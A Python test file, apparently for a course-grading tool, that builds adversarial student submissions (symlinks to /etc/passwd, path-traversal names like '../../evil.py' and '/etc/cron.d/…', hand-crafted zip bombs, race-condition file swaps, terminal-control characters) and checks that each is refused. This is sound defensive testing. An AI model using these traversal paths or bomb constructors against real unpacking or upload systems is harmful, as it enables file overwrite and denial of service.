"""Attacks by name: each costs the one who made it, is refused in words that staff understand, and harms nobody else.

Every source holds an honest student too, whose work must be collected whole. Nothing is stored: the attacks are made here.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import stat
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest

from cnngrade.course.paths import TIMESTAMP
from cnngrade.errors import SubmissionError, UsageError
from cnngrade.gradebook.student_cells import student_cells
from cnngrade.jobs import collect as collecting
from cnngrade.jobs.collect import collect
from cnngrade.jobs.collect_lines import Collected, Fate, collected_as_text
from cnngrade.jobs.collect_people import FoundWork
from cnngrade.model import Course
from cnngrade.submission import archive as archive_module
from cnngrade.submission import no_links
from cnngrade.submission.archive import MAX_FILE_BYTES, File, NotRead, folder_files
from cnngrade.submission.filenames import bad_student
from cnngrade.submission.read import MAX_BYTES, read_work
from support import tiny_course
from support.sweeps import sweep

UNIT = tiny_course.BARE_UNIT
WORK = b"def conv2d(x, w):\n    return x\n"
HONEST = {"bob/convolution.py": WORK, "bob/data/cat.txt": b"cat"}
REGULAR = stat.S_IFREG | 0o644

# A hang takes minutes; a busy machine takes its time.
MOST_SECONDS = 60.0
MOST_BYTES = 400 << 20


@pytest.fixture(autouse=True)
def bounded(request: pytest.FixtureRequest) -> Iterator[None]:
    """Limit every attack's time and memory."""
    counts_memory = "no_tracing" not in request.fixturenames
    if counts_memory:
        tracemalloc.start()
    start = time.monotonic()
    yield
    seconds = time.monotonic() - start
    if counts_memory:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < MOST_BYTES
    assert seconds < MOST_SECONDS


@pytest.fixture
def no_tracing() -> None:
    """Tracing makes a million small objects take minutes; there only the time is limited."""


def entry(name: str, mode: int = REGULAR, method: int = zipfile.ZIP_STORED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (2026, 2, 3, 4, 5, 6))
    info.external_attr = mode << 16
    info.compress_type = method
    return info


def archive_of(path: Path, *attack: tuple[zipfile.ZipInfo, bytes]) -> Path:
    """Make an archive of the attack and of an honest student's work."""
    with zipfile.ZipFile(path, "w") as archive:
        for info, data in attack:
            archive.writestr(info, data)
        for name, data in HONEST.items():
            archive.writestr(entry(name), data)
    return path


def folder_with_honest_work(path: Path) -> Path:
    for name, data in HONEST.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_bytes(data)
    return path


def tree(folder: Path) -> dict[str, bytes | None]:
    """Return everything below a folder with its content; None for what is not a regular file."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes() if path.is_file() and not path.is_symlink() else None
        for path in folder.rglob("*")
    }


def refusals(bare_course: Course, source: Path, *others: str) -> dict[str, str]:
    """Collect, and return what was refused and why.

    Whatever the attack was: bob's work is there whole, `others` and nobody else are there beside him, no draft is left, and
    nothing else on the disk has changed.
    """
    root = bare_course.root.parent
    outside = {name: data for name, data in tree(root).items() if name.partition("/")[0] != bare_course.root.name}
    lines = collect(bare_course, UNIT, source)
    after = {name: data for name, data in tree(root).items() if name.partition("/")[0] != bare_course.root.name}
    assert outside == after
    assert [path.name for path in bare_course.root.iterdir()] == ["classroom"]
    submitted = bare_course.root / "classroom" / "submitted"
    assert {path.name for path in submitted.iterdir()} == {"bob", *others}
    bob = tree(submitted / "bob" / UNIT.name)
    assert {name: data for name, data in bob.items() if name != TIMESTAMP} == {
        "convolution.py": WORK, "data": None, "data/cat.txt": b"cat"
    }  # fmt: skip
    assert_told(lines)
    return {line.found: line.reason for line in lines if line.fate is Fate.REFUSED}


def assert_told(lines: Iterable[Collected]) -> None:
    """every line can be printed: it is one line, moves no terminal, and a refusal has a reason"""
    for line in lines:
        text = collected_as_text(line)
        assert text.isprintable()
        assert len(text) < 1_000
        assert line.reason or line.fate is Fate.COLLECTED


# Links and things that are not files


def test_links_in_an_archive(bare_course: Course, tmp_path: Path) -> None:
    """a link to a file and a link to a folder are not made, and nothing is written through them"""
    (tmp_path / "target").mkdir()
    attack = [
        (entry("eve/convolution.py", stat.S_IFLNK | 0o777), b"/etc/passwd"),
        (entry("mallory", stat.S_IFLNK | 0o777), str(tmp_path / "target").encode()),
        (entry("mallory/convolution.py"), WORK),
    ]
    refused = refusals(bare_course, archive_of(tmp_path / "links.zip", *attack), "mallory")
    assert refused == {"eve/convolution.py": "it is a link", "mallory": "it is a link"}
    assert list((tmp_path / "target").iterdir()) == []
    assert not (bare_course.root / "classroom" / "submitted" / "mallory").is_symlink()


def test_links_in_a_folder(bare_course: Course, tmp_path: Path) -> None:
    """a link to a file, to a folder, to itself and to nowhere are named and not followed"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "convolution.py").write_bytes(b"secret\n")
    (source / "eve").mkdir()
    (source / "eve" / "convolution.py").symlink_to(secret / "convolution.py")
    (source / "mallory").symlink_to(secret, target_is_directory=True)
    (source / "loop").symlink_to(source, target_is_directory=True)
    (source / "nowhere.py").symlink_to(tmp_path / "nothing")
    links = ("eve/convolution.py", "mallory", "loop", "nowhere.py")
    assert refusals(bare_course, source) == dict.fromkeys(links, "it is a link")


@pytest.mark.parametrize("kind", [stat.S_IFCHR, stat.S_IFBLK, stat.S_IFIFO, stat.S_IFSOCK])
def test_devices_in_an_archive(bare_course: Course, tmp_path: Path, kind: int) -> None:
    """a device, a pipe and a socket are not made"""
    archive = archive_of(tmp_path / "devices.zip", (entry("eve/convolution.py", kind | 0o666), b""))
    assert refusals(bare_course, archive) == {"eve/convolution.py": "it is not a regular file"}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs pipes")
def test_a_pipe_in_a_folder(bare_course: Course, tmp_path: Path) -> None:
    """a pipe that nobody writes to keeps nobody waiting"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    (source / "eve").mkdir()
    os.mkfifo(source / "eve" / "convolution.py")
    os.mkfifo(source / "eve.py")
    assert refusals(bare_course, source) == dict.fromkeys(("eve/convolution.py", "eve.py"), "it is not a regular file")


# What changes between the listing and the copying


SWAPS = [
    "a link", "a relative link", "a link to another student", "a file", "nothing", "an inner link", "a link for the file",
    "a pipe for the file", "a folder for the file", "a file that has grown",
]  # fmt: skip


def swap(how: str, source: Path, secret: Path) -> None:
    """Do what eve does to her folder in that very moment."""
    folder, file = source / "eve", source / "eve" / "convolution.py"
    if how == "an inner link":
        shutil.rmtree(folder / "lib")
        (folder / "lib").symlink_to(secret, target_is_directory=True)
    elif how == "a file that has grown":
        os.truncate(file, MAX_FILE_BYTES + 1)
    elif how.endswith("for the file"):
        file.unlink()
        if how.startswith("a link"):
            file.symlink_to(secret / "convolution.py")
        elif how.startswith("a pipe"):
            os.mkfifo(file)
        else:
            file.mkdir()
    else:
        shutil.rmtree(folder)
        if how == "a file":
            folder.write_bytes(b"secret\n")
        elif how != "nothing":
            targets = {"a link": secret, "a relative link": Path("..", secret.name), "a link to another student": Path("bob")}
            folder.symlink_to(targets[how], target_is_directory=True)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs links and pipes")
@pytest.mark.parametrize("by_descriptors", [True, False])
@pytest.mark.parametrize("how", SWAPS)
def test_what_is_swapped_while_it_is_collected(
    bare_course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str, by_descriptors: bool
) -> None:
    """a folder or a file that is changed after the listing brings nothing in from elsewhere, and bob's work is as it was"""
    if not by_descriptors:
        # As on systems that cannot open a name in an open folder.
        monkeypatch.setattr(no_links, "_CAN_OPEN_IN", False)
    secret = tmp_path / "secret"
    secret.mkdir()
    for name in ("convolution.py", "helpers.py"):
        (secret / name).write_bytes(b"secret\n")
    source = folder_with_honest_work(tmp_path / "handed-in")
    (source / "eve" / "lib").mkdir(parents=True)
    (source / "eve" / "convolution.py").write_bytes(WORK)
    (source / "eve" / "lib" / "helpers.py").write_bytes(WORK)
    check_whose = collecting.check_whose

    def then_swap(work: FoundWork, *rest: Any) -> None:
        check_whose(work, *rest)
        if work.handed[0].top == "eve":
            swap(how, source, secret)

    monkeypatch.setattr(collecting, "check_whose", then_swap)
    lines = {line.student: line for line in collect(bare_course, UNIT, source)}
    assert lines["eve"].fate is Fate.REFUSED
    assert lines["bob"].fate is Fate.COLLECTED
    assert_told(tuple(lines.values()))
    submitted = bare_course.root / "classroom" / "submitted"
    assert [path.name for path in submitted.iterdir()] == ["bob"]
    assert (submitted / "bob" / UNIT.name / "convolution.py").read_bytes() == WORK


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs links")
@pytest.mark.parametrize("by_descriptors", [True, False])
def test_a_folder_that_is_swapped_while_it_is_listed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, by_descriptors: bool
) -> None:
    """a folder that was one when its name was read, and is a link when it is looked into, is not looked into"""
    monkeypatch.setattr(no_links, "_CAN_OPEN_IN", by_descriptors and no_links._CAN_OPEN_IN)
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "convolution.py").write_bytes(b"secret\n")
    source = tmp_path / "handed-in"
    for student in ("bob", "eve"):
        (source / student).mkdir(parents=True)
        (source / student / "convolution.py").write_bytes(WORK)
    with no_links.FolderWithoutLinks(source) as folder:
        found = folder_files(folder)
        assert next(found).path == "bob/convolution.py"
        swap("a link", source, secret)
        (rest,) = found
    assert isinstance(rest, NotRead)
    assert (rest.path, "link" in rest.reason) == ("eve", True)


def test_a_file_that_is_written_while_it_is_copied(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """half of an old file and half of a new one is nobody's work"""
    source = tmp_path / "handed-in"
    (source / "eve").mkdir(parents=True)
    (source / "eve" / "convolution.py").write_bytes(WORK)
    with no_links.FolderWithoutLinks(source) as folder:
        (found,) = folder_files(folder)
        assert isinstance(found, File)
        copy = archive_module._copy_at_most

        def while_copying(*arguments: Any) -> None:
            copy(*arguments)
            with (source / "eve" / "convolution.py").open("ab") as file:
                file.write(b"# and more\n")

        monkeypatch.setattr(archive_module, "_copy_at_most", while_copying)
        with pytest.raises(no_links.Refused, match="was written to while it was collected"):
            found.write_to(tmp_path / "copy")


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root gives files away")
def test_a_second_name_of_somebody_elses_file(bare_course: Course, tmp_path: Path) -> None:
    """a hard link to a file of another user is refused; one to a file of the student's own is a file like any other"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    (tmp_path / "secret.py").write_bytes(b"secret\n")
    for student in ("eve", "fay"):
        (source / student).mkdir()
        os.chown(source / student, 65534, 65534)
    (source / "eve" / "convolution.py").hardlink_to(tmp_path / "secret.py")
    (source / "fay" / "convolution.py").write_bytes(WORK)
    os.chown(source / "fay" / "convolution.py", 65534, 65534)
    (source / "fay" / "old.py").hardlink_to(source / "fay" / "convolution.py")
    assert refusals(bare_course, source, "fay") == {"eve": "it is a second name (a hard link) of somebody else's file"}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs links")
@pytest.mark.parametrize("inside", ["eve", "eve/convolution"])
def test_nothing_is_written_through_a_link(bare_course: Course, tmp_path: Path, inside: str) -> None:
    """where a student's place in the classroom is a link, nothing is written and nothing is replaced"""
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "convolution").mkdir(parents=True)
    (elsewhere / "convolution" / "kept.txt").write_bytes(b"kept")
    place = bare_course.root / "classroom" / "submitted" / inside
    place.parent.mkdir(parents=True)
    place.symlink_to(elsewhere, target_is_directory=True)
    before = tree(elsewhere)
    archive = archive_of(tmp_path / "all.zip", (entry("eve/convolution.py"), WORK))
    lines = {line.student: line for line in collect(bare_course, UNIT, archive, force=True)}
    assert {student: line.fate for student, line in lines.items()} == {"bob": Fate.COLLECTED, "eve": Fate.REFUSED}
    assert "is a link, and nothing is written through one" in lines["eve"].reason
    assert place.is_symlink()
    assert tree(elsewhere) == before


# Paths


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../../evil.py", "leads out of its folder"),
        ("eve/../../../convolution.py", "leads out of its folder"),
        ("eve/..", "leads out of its folder"),
        ("/etc/cron.d/convolution.py", "not a relative one"),
        ("//host/share/convolution.py", "not a relative one"),
        ("C:/eve/convolution.py", "not a relative one"),
        ("eve\\..\\..\\convolution.py", "leads out of its folder"),
        ("C:\\eve\\convolution.py", "not a relative one"),
        ("\\\\host\\eve\\convolution.py", "not a relative one"),
        ("eve/convolution.py:stream", "not allowed on every system"),
        ("eve/aux.py", "not allowed on every system"),
        ("eve/" + "a/" * 5_000 + "convolution.py", "longer than 240 characters"),
        ("e" * 60_000 + "/convolution.py", "longer than 240 characters"),
    ],
    ids=lambda text: text[:30],
)
@pytest.mark.parametrize("wrapper", ["", "handed in/"])
def test_paths_that_lead_elsewhere(bare_course: Course, tmp_path: Path, name: str, reason: str, wrapper: str) -> None:
    """one path that leads out is refused alone, also where all the others are in a folder that wraps them"""
    with zipfile.ZipFile(tmp_path / "paths.zip", "w") as archive:
        archive.writestr(entry(name), WORK)
        for honest, data in HONEST.items():
            archive.writestr(entry(wrapper + honest), data)
    ((found, said),) = refusals(bare_course, tmp_path / "paths.zip").items()
    assert (found, reason in said) == (name.replace("\\", "/"), True)


def test_folders_beyond_what_can_be_walked(bare_course: Course, tmp_path: Path) -> None:
    """a thousand folders in one another are refused as one, by the path where it became too long"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    inner, outer = source / "eve", source / "outer"
    inner.mkdir()
    for _ in range(1_200):
        outer.mkdir()
        inner.rename(outer / "d")
        outer.rename(inner)
    lines = collect(bare_course, UNIT, source)
    (refused,) = [line for line in lines if line.fate is Fate.REFUSED]
    assert refused.found.startswith("eve/d/d/d")
    assert "longer than 240 characters" in refused.reason
    assert [line.student for line in lines if line.fate is not Fate.REFUSED] == ["bob"]
    # Clearing up would recurse.
    while (inner / "d").exists():
        (inner / "d").rename(outer)
        inner.rmdir()
        outer.rename(inner)


# Sizes


def test_a_bomb(bare_course: Course, tmp_path: Path) -> None:
    """a small archive of a large file is refused by the size that it states, before it is unpacked"""
    zeros = b"\0" * (MAX_FILE_BYTES + 1)
    archive = archive_of(tmp_path / "bomb.zip", (entry("eve/convolution.py", method=zipfile.ZIP_DEFLATED), zeros))
    assert archive.stat().st_size < 100_000
    assert refusals(bare_course, archive) == {"eve/convolution.py": "it is larger than 64 MiB"}


def test_a_bomb_that_says_it_is_small(bare_course: Course, tmp_path: Path) -> None:
    """an archive that states a false size is noticed while it is unpacked"""
    size = MAX_FILE_BYTES + 1
    archive = archive_of(tmp_path / "bomb.zip", (entry("eve/convolution.py", method=zipfile.ZIP_DEFLATED), b"\0" * size))
    archive.write_bytes(archive.read_bytes().replace(struct.pack("<L", size), struct.pack("<L", 100)))
    (reason,) = refusals(bare_course, archive).values()
    assert reason.startswith("it cannot be unpacked")


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_bomb_by_another_method(bare_course: Course, tmp_path: Path, method: int) -> None:
    """methods that unpack a whole block at once are not read: a kilobyte may be a gigabyte before it can be counted"""
    zeros = b"\0" * (MAX_FILE_BYTES - 1)
    archive = archive_of(tmp_path / "bomb.zip", (entry("eve/convolution.py", method=method), zeros))
    (reason,) = refusals(bare_course, archive).values()
    assert reason == "it is compressed in a way that is not read here: make the archive again, as an ordinary .zip file"


def listed(name: bytes, method: int, facts: tuple[int, int, int], start: int) -> bytes:
    """Return an entry of an archive's directory; `facts` are checksum, packed and unpacked size."""
    numbers = (20, 20, 0, method, 0, 33, *facts, len(name), 0, 0, 0, 0, REGULAR << 16, start)
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", *numbers) + name


def overlapping(path: Path, entries: int) -> Path:
    """Make an archive whose many entries are all the same packed bytes, beside an honest student's work."""
    size = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"\0" * size) + packer.flush()
    crc = zlib.crc32(b"\0" * size)
    archive_of(path)
    with zipfile.ZipFile(path) as honest:
        start = honest.start_dir
        count = len(honest.infolist())
    data = path.read_bytes()
    body, directory = data[:start], data[start : data.rindex(b"PK\5\6")]
    shared = b"eve/0000.bin"
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), size, len(shared), 0) + shared + packed
    for number in range(entries):
        name = f"eve/{number:04}.bin".encode() if number else b"eve/convolution.py"
        directory += listed(name, 8, (crc, len(packed), size), start)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count + entries, count + entries, len(directory), start + len(local), 0)
    path.write_bytes(body + local + directory + end)
    return path


@pytest.mark.parametrize(("entries", "reason"), [(100, "it cannot be unpacked"), (900, "larger than 128 MiB together")])
def test_a_bomb_of_overlapping_entries(bare_course: Course, tmp_path: Path, entries: int, reason: str) -> None:
    """many entries that share the same bytes count as many, and cost the one student whose they are"""
    archive = overlapping(tmp_path / "bomb.zip", entries)
    assert archive.stat().st_size < 100_000
    ((found, said),) = refusals(bare_course, archive).items()
    assert (found, reason in said) == ("eve", True)


def test_a_bomb_in_a_bomb(bare_course: Course, tmp_path: Path) -> None:
    """an archive in an archive is a file like any other: it is never opened"""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.py", b"\0" * (8 << 20))
    attack = [(entry("eve/more.zip"), inner.getvalue()), (entry("eve/convolution.py"), WORK), (entry("all.zip"), b"PK")]
    refused = refusals(bare_course, archive_of(tmp_path / "nested.zip", *attack), "eve")
    assert refused == {"all.zip": "it is an archive in another: unpack it, and collect from the folder"}
    assert (bare_course.root / "classroom/submitted/eve/convolution/more.zip").read_bytes() == inner.getvalue()


def test_a_gigabyte_in_a_folder(bare_course: Course, tmp_path: Path) -> None:
    """a file of a gigabyte is refused without being read; the same student's other files are taken"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    for name in ("eve/convolution.py", "carol/video.mp4"):
        (source / name).parent.mkdir()
        with (source / name).open("wb") as file:
            file.truncate(1 << 30)
    (source / "carol" / "convolution.py").write_bytes(WORK)
    lines = collect(bare_course, UNIT, source)
    refused = {line.found: line.reason for line in lines if line.fate is Fate.REFUSED}
    assert refused == dict.fromkeys(("carol/video.mp4", "eve/convolution.py"), "it is larger than 64 MiB")
    assert [line.student for line in lines if line.fate is not Fate.REFUSED] == ["bob", "carol"]
    assert sum(path.stat().st_size for path in bare_course.root.rglob("*") if path.is_file()) < 10_000


def test_a_quarter_of_a_gigabyte_of_zeros_in_an_archive(bare_course: Course, tmp_path: Path) -> None:
    """a small file that unpacks to a quarter of a gigabyte of zeros is refused by name"""
    path = archive_of(tmp_path / "zeros.zip")
    with zipfile.ZipFile(path, "a") as archive, archive.open(entry("eve/convolution.py", method=8), "w") as out:
        for _ in range(1 << 8):
            out.write(bytes(1 << 20))
    assert path.stat().st_size < 1 << 20
    assert refusals(bare_course, path) == {"eve/convolution.py": "it is larger than 64 MiB"}


# Numbers


def empty_entries(path: Path, names: Iterator[str]) -> Path:
    """Make an archive of empty files; by hand, since zipfile takes a minute for a hundred thousand."""
    archive_of(path)
    data = path.read_bytes()
    place = data.rindex(b"PK\5\6")
    size, start = struct.unpack("<2L", data[place + 12 : place + 20])
    body, directory, count = data[:start], [data[start : start + size]], len(HONEST)
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"x"
    for name in names:
        directory.append(listed(name.encode(), 0, (0, 0, 0), start))
        count += 1
    whole = b"".join(directory)
    begin = start + len(local)
    end64 = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(whole), begin)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, begin + len(whole), 1)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(whole), begin, 0)
    path.write_bytes(body + local + whole + end64 + locator + end)
    return path


@pytest.mark.usefixtures("no_tracing")
def test_thousands_of_files_of_one_student(bare_course: Course, tmp_path: Path) -> None:
    """a student with twenty thousand files is refused, and nobody else is"""
    archive = empty_entries(tmp_path / "many.zip", (f"eve/{number}.txt" for number in range(20_001)))
    assert refusals(bare_course, archive) == {"eve": "there are 20,001 files; at most 1,000 per student are read"}


@pytest.mark.usefixtures("no_tracing")
@pytest.mark.parametrize("most", sweep([100, 50_000], [100]))
def test_tens_of_thousands_of_students(bare_course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, most: int) -> None:
    """more students than any class has are an error that says how many are read, before anything is written"""
    assert collecting.MAX_FILES == 50_000
    monkeypatch.setattr(collecting, "MAX_FILES", most)
    archive = empty_entries(tmp_path / "many.zip", (f"s{number}.py" for number in range(most - 1)))
    with pytest.raises(UsageError, match=rf"{most + 1:,} files of 0 MiB\. At most {most:,} files .*: collect in parts"):
        collect(bare_course, UNIT, archive)
    assert list(bare_course.root.iterdir()) == []


def test_more_entries_than_are_looked_at(bare_course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """beyond a million entries nothing of an archive or a folder is looked at, and that is said"""
    monkeypatch.setattr(collecting, "MAX_ENTRIES", 1)
    with pytest.raises(UsageError, match="holds 2 files; at most 1 are read"):
        collect(bare_course, UNIT, archive_of(tmp_path / "many.zip"))
    with pytest.raises(UsageError, match="more than 1 files"):
        collect(bare_course, UNIT, folder_with_honest_work(tmp_path / "handed-in"))


# Names


CONTROL = [
    "e\x1b[2Jve", "e\nve", "e\x00ve", "ev\x7fe", "e\x9bve", "e\u202eve", "e\u2066ve", "e\u200bve", "\ufeffeve", "e\u2028ve"
]  # fmt: skip


@pytest.mark.parametrize("name", CONTROL, ids=ascii)
def test_control_characters_in_names(bare_course: Course, tmp_path: Path, name: str) -> None:
    """a name with what moves a terminal, or makes letters run backwards, is refused and shown harmless"""
    archive = archive_of(tmp_path / "names.zip", (entry("x"), b""))
    with zipfile.ZipFile(archive, "a") as out:
        info = entry("y")
        # zipfile would cut the name at a NUL on the way in, as it does on the way out.
        info.filename = f"{name}/convolution.py"
        out.writestr(info, WORK)
    refused = refusals(bare_course, archive)
    del refused["x"]
    ((_, reason),) = refused.items()
    assert "control characters" in reason or "not a script" in reason


def test_names_that_are_not_unicode(bare_course: Course, tmp_path: Path) -> None:
    """bytes that are not UTF-8 are refused by name in a folder, and cost no other in an archive"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    try:
        os.mkdir(os.fsencode(source) + b"/ev\xff\xfe")  # noqa: PTH102 - a Path holds no such bytes
    except OSError:
        pytest.skip("this file system takes no such name")
    (source / "ev\udcff\udcfe" / "convolution.py").write_bytes(WORK)
    assert refusals(bare_course, source) == {"ev\udcff\udcfe/convolution.py": "its name has control characters"}


def test_an_archive_whose_names_are_not_unicode(bare_course: Course, tmp_path: Path) -> None:
    """an archive that says its names are UTF-8 when they are not is an error for people"""
    archive = archive_of(tmp_path / "names.zip", (entry("\u00e9ve/convolution.py"), WORK))
    archive.write_bytes(archive.read_bytes().replace("\u00e9ve".encode(), b"\xff\xfeve"))
    with pytest.raises(UsageError, match="not a zip archive"):
        collect(bare_course, UNIT, archive)
    assert list(bare_course.root.iterdir()) == []


def test_one_spelling_for_names_that_look_alike(bare_course: Course, tmp_path: Path) -> None:
    """a letter with its accent apart is the same student; of two folders that mean the same one neither is taken"""
    apart, composed = (entry("zoe\u0308/convolution.py"), WORK), (entry("zo\u00eb/convolution.py"), b"other\n")
    both = refusals(bare_course, archive_of(tmp_path / "both.zip", apart, composed))
    assert list(both.values()) == ["zoe\u0308 and zo\u00eb are all read as this student's: leave one, or rename the others"]
    assert refusals(bare_course, archive_of(tmp_path / "one.zip", apart), "zo\u00eb") == {}


def test_names_that_differ_in_case(bare_course: Course, tmp_path: Path) -> None:
    """files, and students, whose names some systems cannot tell apart are refused together"""
    attack = [
        (entry("eve/convolution.py"), WORK),
        (entry("eve/Data.txt"), b"1"),
        (entry("eve/data.TXT"), b"2"),
        (entry("Mallory/convolution.py"), WORK),
        (entry("mallory/convolution.py"), WORK),
    ]
    told = "too: the names differ only in upper and lower case or in spelling. Say with --map whose it is, or rename it"
    assert refusals(bare_course, archive_of(tmp_path / "case.zip", *attack)) == {
        "eve": "the names Data.txt and data.TXT differ only in upper and lower case",
        "Mallory": f"there is a student mallory, {told}",
        "mallory": f"there is a student Mallory, {told}",
    }


def test_a_file_that_is_a_folder_too(bare_course: Course, tmp_path: Path) -> None:
    """a name that is a file and a folder at once cannot be written, and none of it stays"""
    attack = [(entry("eve/convolution.py"), WORK), (entry("eve/convolution.py/x"), b"")]
    ((found, reason),) = refusals(bare_course, archive_of(tmp_path / "both.zip", *attack)).items()
    assert (found, reason) == ("eve", "a file and a folder have the same name (convolution.py)")


@pytest.mark.parametrize(
    ("names", "both"),
    [
        (("eve/convolution.ipynb", "eve/convolution.ipynb/x"), "convolution.ipynb"),
        (("eve/convolution.py", "eve/convolution.ipynb/x"), "convolution.ipynb"),
        (("eve/convolution.py", "eve/a", "eve/a/b.txt"), "a"),
        (("eve/convolution.py", "eve/a/b/c.txt", "eve/a/b"), "a/b"),
        (("eve/convolution.py", "eve/a", "eve/a/b/c/d.txt"), "a"),
        (("eve/convolution/convolution.py", "eve/convolution/a", "eve/a/b.txt"), "a"),
        (("eve/convolution.py", "eve/Data", "eve/data/x.txt"), "Data"),
        (("eve/convolution.py", "eve/a", "eve/a/x", "eve/b", "eve/b/x"), "a, b"),
    ],
)
def test_a_file_and_a_folder_of_one_name_in_a_folder(
    bare_course: Course, tmp_path: Path, names: tuple[str, ...], both: str
) -> None:
    """the refusal says which name is a file's and a folder's, the released notebook's among them, and none of it stays"""
    refused = refusals(bare_course, honest_zip(tmp_path / "both.zip", *names))
    assert refused == {"eve": f"a file and a folder have the same name ({both})"}


def test_a_file_of_a_students_name_and_a_folder(bare_course: Course, tmp_path: Path) -> None:
    """a file that has the name of a student's folder is refused alone"""
    assert list(refusals(bare_course, honest_zip(tmp_path / "both.zip", "bob"))) == ["bob"]


# Other people's names in a student's folder


def honest_zip(path: Path, *names: str) -> Path:
    return archive_of(path, *((entry(name), b"# not bob's\n") for name in names))


OTHERS_INSIDE = [
    "eve/bob/convolution.py",
    "eve/BOB/convolution.py",
    "eve/deep/er/bob/convolution.py",
    "eve/convolution/bob/convolution.py",
    "eve/bob/convolution/convolution.py",
    "eve/bob/Convolution.ipynb",
    "eve/bob/Copy of convolution.ipynb",
    "eve/bob/lib/convolution_final.py",
    "eve/\uff42\uff4f\uff42/convolution.py",
    "eve/bob_convolution.py",
    "eve/bob-convolution (2).ipynb",
    "eve/Bob.convolution.py",
    "eve/convolution_bob.py",
    "eve/lib/bob_convolution.ipynb",
    "eve/Mallory_12_assignsubmission_file/convolution.py",
    "eve/Mallory_12_assignsubmission_file_convolution.py",
    "eve/lib/mallory_12_34_convolution.py",
    "eve/mallory_LATE_12_34_convolution-1.ipynb",
]


@pytest.mark.parametrize("name", OTHERS_INSIDE, ids=ascii)
def test_another_students_name_in_a_folder(bare_course: Course, tmp_path: Path, name: str) -> None:
    """a folder that holds work on the unit by a name that is another student's is not taken, and the entry is named"""
    archive = honest_zip(tmp_path / "names.zip", "eve/convolution.py", name)
    ((found, reason),) = refusals(bare_course, archive).items()
    assert found == "eve"
    assert f"{name} bears another student's name" in reason


@pytest.mark.parametrize("name", OTHERS_INSIDE, ids=ascii)
def test_another_students_name_in_a_folder_that_is_collected_later(bare_course: Course, tmp_path: Path, name: str) -> None:
    """who was collected before is a student, too"""
    assert refusals(bare_course, honest_zip(tmp_path / "first.zip")) == {}
    late = tmp_path / "late.zip"
    with zipfile.ZipFile(late, "w") as archive:
        for each in ("eve/convolution.py", name):
            archive.writestr(entry(each), b"# later\n")
    (line,) = collect(bare_course, UNIT, late, force=True)
    assert (line.found, line.fate) == ("eve", Fate.REFUSED)
    assert name in line.reason
    assert (bare_course.root / "classroom" / "submitted" / "bob" / UNIT.name / "convolution.py").read_bytes() == WORK


@pytest.mark.parametrize(
    "names",
    [
        ("alice/bob/convolution.py",),
        ("alice/bob/convolution.ipynb", "alice/carol/convolution.ipynb"),
        ("alice/carol/convolution.ipynb", "alice/dave/convolution.ipynb", "alice/BOB/convolution/convolution.ipynb"),
        ("alice/Carol_11_assignsubmission_file/convolution.py", "alice/Bob_12_assignsubmission_file/convolution.py"),
        ("alice/Carol_11_assignsubmission_file_convolution.py", "alice/Bob_12_assignsubmission_file_convolution.py"),
        ("week3/alice/bob/convolution.py", "week3/alice/carol/convolution.py"),
        ("alice/old/convolution.py", "alice/new/convolution.py"),
        ("alice/v1/convolution.py", "alice/Version_2/convolution.py"),
        ("alice/week1/convolution.py", "alice/week2/convolution.py"),
        ("alice/carol/convolution.py", "alice/dave/convolution.py", "alice/helpers.py"),
        ("alice/carol/convolution.py", "alice/dave/convolution.py", "alice/a/x.txt", "alice/b/x.txt"),
        ("alice/alice/convolution.py", "alice/carol/convolution.py"),
        ("alice/carol_convolution.py", "alice/dave_convolution.py"),
        ("alice/bob_convolution.py",),
        ("alice/bob.py",),
        ("alice/b\u00f6b/convolution/convolution.py",),
        ("alice/inner/bob/convolution.py",),
        ("ALICE/bob/convolution.py",),
        ("week3/alice/bob/convolution.py",),
        ("submissions/alice/bob/convolution.py",),
        ("a class of mine/alice/bob/convolution.py",),
        ("Ada Lovelace/bob/convolution.py",),
        ("alice/Bob_12_assignsubmission_file/convolution.py",),
        ("Ada_11_assignsubmission_file/Bob_12_assignsubmission_file/convolution.py",),
    ],
)
@pytest.mark.parametrize("as_folder", [False, True])
def test_a_folder_may_be_a_students_or_around_many(
    bare_course: Course, tmp_path: Path, names: tuple[str, ...], as_folder: bool
